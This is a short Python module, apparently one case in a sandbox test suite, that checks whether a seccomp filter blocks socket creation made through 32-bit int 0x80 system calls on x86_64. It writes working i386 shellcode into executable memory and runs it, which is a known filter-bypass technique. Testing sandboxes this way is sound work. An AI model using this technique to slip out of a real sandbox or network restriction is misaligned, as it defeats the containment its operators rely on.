"""Makes a socket by the system calls of another architecture, which a filter may have forgotten."""

ATTACK = {
    "family": "network",
    "stopped_by": ["seccomp"],
    "lift": ["seccomp"],
    "expect": ["killed", "value"],
    "proof": "holds",
    "holds": "socket:[",
}

import ctypes
import mmap
import os
import time

CODE = bytes.fromhex("53 b867010000 bb01000000 b901000000 31d2 cd80 5b c3".replace(" ", ""))  # socket(1, 1, 0), i386


def attack(host):
    if os.uname().machine != "x86_64":
        return None
    ctypes.CDLL(None).prctl(15, host["name"].encode())
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    made = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    time.sleep(0.2 if made >= 0 else 0)
    return "succeeded" if made >= 0 else None
